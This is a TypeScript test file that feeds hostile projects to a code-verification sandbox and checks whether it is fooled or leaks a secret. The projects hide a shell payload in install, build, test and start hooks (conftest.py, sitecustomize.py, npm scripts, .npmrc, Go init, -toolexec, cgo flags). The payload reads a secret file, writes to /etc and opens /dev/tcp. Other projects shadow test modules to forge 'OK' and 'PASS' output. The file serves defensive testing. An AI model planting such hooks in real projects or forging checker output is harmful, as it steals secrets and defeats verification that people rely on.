import { createVerifier } from "../../src/software-house/verification/create-verifier.ts";
import { computeVerdict } from "../../src/software-house/compute-verdict.ts";
import type { Language, Specification } from "../../src/software-house/contract/specification.ts";
import type { Attack } from "./attack.ts";
import { specified, TESTS } from "./greeter.ts";
import type { World } from "./world.ts";

interface HostileProject {
  name: string;
  tried: string;
  language: Language;
  run: Partial<Specification["run"]>;
  files: (world: World) => Record<string, string>;
  isShort?: boolean;
}

/** Shell script: everything that a hostile file wants. */
const shellOf = ({ secretFile, canaryFile, port, mark }: World): string =>
  `cat ${secretFile} >&2; echo here > ${canaryFile}; echo here > /etc/troupe-was-here; (exec 3<>/dev/tcp/127.0.0.1/${port}) 2>/dev/null; setsid sleep ${mark} > /dev/null 2>&1 & true`;

const pythonOf = (world: World): string =>
  `import os, subprocess, sys\nsubprocess.run(["bash", "-c", ${JSON.stringify(shellOf(world))}])\nprint(os.environ)\n`;

const nodeOf = (world: World): string =>
  `require("node:child_process").execFileSync("bash", ["-c", ${JSON.stringify(shellOf(world))}], { stdio: "inherit" });\nconsole.log(process.env);\n`;

const goOf = (world: World, main: string): string => `package main

import ("fmt"; "os"; "os/exec")

func init() {
	command := exec.Command("bash", "-c", ${JSON.stringify(shellOf(world))})
	command.Stdout, command.Stderr = os.Stdout, os.Stderr
	command.Run()
	fmt.Println(os.Environ())
}

${main}
`;

const GO = { build: ["go", "build", "-o", "greet", "."], start: ["./greet"] };
const WRONG_GO = 'func main() { fmt.Println("wrong") }';
const MODULE = "module greet\n\ngo 1.19\n";

const PROJECTS: HostileProject[] = [
  {
    name: "Python: conftest, sitecustomize and setup.py",
    tried: "code that runs when tests or the interpreter start",
    language: "python",
    run: { start: ["python3", "main.py"] },
    isShort: true,
    files: (world) => ({
      "main.py": "print('wrong')\n",
      "conftest.py": pythonOf(world),
      "sitecustomize.py": pythonOf(world),
      "usercustomize.py": pythonOf(world),
      "setup.py": pythonOf(world),
      "test_main.py": `${pythonOf(world)}import unittest\nclass T(unittest.TestCase):\n    def test(self): pass\n`,
      "pytest.ini": "[pytest]\naddopts = --collect-only\n",
    }),
  },
  {
    name: "Python: modules that shadow the checkers",
    tried: "own unittest, compileall and ast that report success",
    language: "python",
    run: { start: ["python3", "main.py"] },
    files: (world) => ({
      "main.py": "print('wrong')\n",
      "unittest.py": `${pythonOf(world)}print("Ran 9 tests\\n\\nOK"); sys.exit(0)\n`,
      "unittest/__main__.py": `${pythonOf(world)}print("OK")\n`,
      "compileall.py": "import sys\nsys.exit(0)\n",
      "ast.py": pythonOf(world),
      "json.py": pythonOf(world),
    }),
  },
  {
    name: "Python: a build that attacks",
    tried: "a shell as the build command, which forges the program's output later",
    language: "python",
    run: { build: ["bash", "attack.sh"], start: ["python3", "main.py"] },
    isShort: true,
    files: (world) => ({
      "main.py": "print('wrong')\n",
      "attack.sh": `${shellOf(world)}; echo hello; mkdir -p ~/.config; echo 'print("hello")' > ~/.config/x.py; ln -sf / out; exit 0\n`,
    }),
  },
  {
    name: "Node: scripts of package.json",
    tried: "hooks of npm, a test command that always passes, .npmrc, NODE_OPTIONS",
    language: "typescript",
    run: { build: ["npm", "run", "build"], start: ["node", "main.js"] },
    files: (world) => ({
      "main.js": "console.log('wrong');\n",
      "evil.js": nodeOf(world),
      "package.json": JSON.stringify({
        name: "greet",
        type: "commonjs",
        scripts: {
          preinstall: "node evil.js",
          prebuild: "node evil.js",
          build: "node evil.js",
          postbuild: "node evil.js",
          pretest: "node evil.js",
          test: "exit 0",
        },
      }),
      ".npmrc": "script-shell=/project/evil.js\nprefix=/etc\nnode-options=--require /project/evil.js\n",
      ".env": "NODE_OPTIONS=--require=./evil.js\n",
    }),
  },
  {
    name: "Node: the compiler's configuration",
    tried: "plugins and paths in tsconfig.json, own commands in node_modules/.bin",
    language: "typescript",
    run: { build: ["npx", "tsc", "-p", "."], start: ["node", "main.js"] },
    files: (world) => ({
      "main.ts": "console.log('wrong');\n",
      "tsconfig.json": JSON.stringify({
        extends: world.secretFile,
        compilerOptions: {
          plugins: [{ name: "./evil.js" }],
          outDir: "/etc",
          typeRoots: ["/root", world.folder],
        },
        files: ["main.ts", world.secretFile],
      }),
      "evil.js": nodeOf(world),
      tsc: nodeOf(world),
      "main.test.ts": `import ${JSON.stringify(world.secretFile)};\n`,
      "package.json": JSON.stringify({ name: "greet", type: "commonjs" }),
    }),
  },
  {
    name: "Go: init, TestMain and generate",
    tried: "code that runs at start, in tests and while generating",
    language: "go",
    run: GO,
    files: (world) => ({
      "go.mod": MODULE,
      "main.go": goOf(
        world,
        `//go:generate bash -c ${JSON.stringify("touch /etc/troupe-was-here")}\n${WRONG_GO}`,
      ),
      "main_test.go": `package main

import ("fmt"; "os"; "testing")

func TestMain(m *testing.M) { fmt.Println("PASS\\nok greet 0.1s"); os.Exit(0) }
`,
    }),
  },
  {
    name: "Go: the module file and the linker",
    tried: "a toolchain to download, a replacement by a folder of the host, flags of cgo",
    language: "go",
    run: GO,
    files: (world) => ({
      "go.mod": `${MODULE}\nreplace example.com/x => ${world.folder}\n\nrequire example.com/x v1.0.0\n`,
      "go.work": `go 1.19\n\nuse .\nuse ${world.folder}\n`,
      "main.go": `package main

// #cgo LDFLAGS: -Wl,-T,${world.secretFile} -o /etc/troupe-was-here
// #include "${world.secretFile}"
import "C"
import ("fmt"; _ "example.com/x"; _ "embed")

//go:embed ${world.secretFile}
var secret string

func main() { fmt.Println(secret) }
`,
    }),
  },
  {
    name: "Go: a build with flags of its own",
    tried: "-toolexec and -overlay by the specification's build command",
    language: "go",
    run: { ...GO, build: ["go", "build", "-toolexec", "/project/evil.sh", "-o", "greet", "."] },
    files: (world) => ({
      "go.mod": MODULE,
      "evil.sh": `#!/bin/bash\n${shellOf(world)}\nexec "$@"\n`,
      "main.go": `package main\n\nimport "fmt"\n\n${WRONG_GO}\n`,
    }),
  },
];

/** Hostile projects that are given to the verification. */
export const PROJECT_ATTACKS: Attack[] = PROJECTS.map(
  ({ name, tried, language, run, files, isShort = false }) => ({
    target: "verification",
    name,
    tried,
    isShort,
    async run(world) {
      const verifier = createVerifier();
      const project = {
        files: Object.entries(files(world)).map(([path, content]) => ({ path, content })),
        specification: specified(language, run),
      };
      try {
        const evidence = await verifier.verify({ ...project, tests: TESTS });
        const verdict = computeVerdict({
          specification: project.specification,
          tests: TESTS,
          evidence: evidence,
        });
        return {
          happened: `${verdict.status}: ${(verdict.reason ?? "").split(";", 1).join()}`.slice(0, 120),
          successes: [
            ...(verdict.status === "verified" ? ["a wrong program was verified"] : []),
            ...(JSON.stringify(evidence).includes(world.secret) ? ["the evidence holds the secret"] : []),
          ],
        };
      } finally {
        await verifier.close();
      }
    },
  }),
);
